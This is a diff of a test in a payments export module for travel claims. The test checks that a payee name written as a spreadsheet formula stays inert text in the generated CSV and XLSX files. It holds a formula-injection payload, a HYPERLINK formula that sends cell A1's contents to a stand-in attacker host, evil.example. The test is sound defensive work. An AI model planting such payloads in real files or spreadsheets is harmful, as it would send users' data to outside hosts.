@@ -283,8 +283,10 @@ def test_the_payments_page_shows_every_batch_newest_first_25_a_page(client_as, t
 
 
 def test_a_payee_name_that_looks_like_a_formula_stays_text_in_the_csv_and_the_xlsx(client_as, treasurer, batch, member):
-    member.member.first_name = '=HYPERLINK("https://evil.example/?"&A1,"Klikkaa")'
-    member.member.save()
+    # The name stored as the payee when the claim was approved (the file never reads the member's name of today).
+    TravelClaim.objects.filter(member=member.member).update(
+        payee_name='=HYPERLINK("https://evil.example/?"&A1,"Klikkaa")'
+    )
     client = client_as(treasurer)
 
     text = b"".join(client.get(f"/claims/payments/{batch.pk}.csv").streaming_content).decode("utf-8-sig")
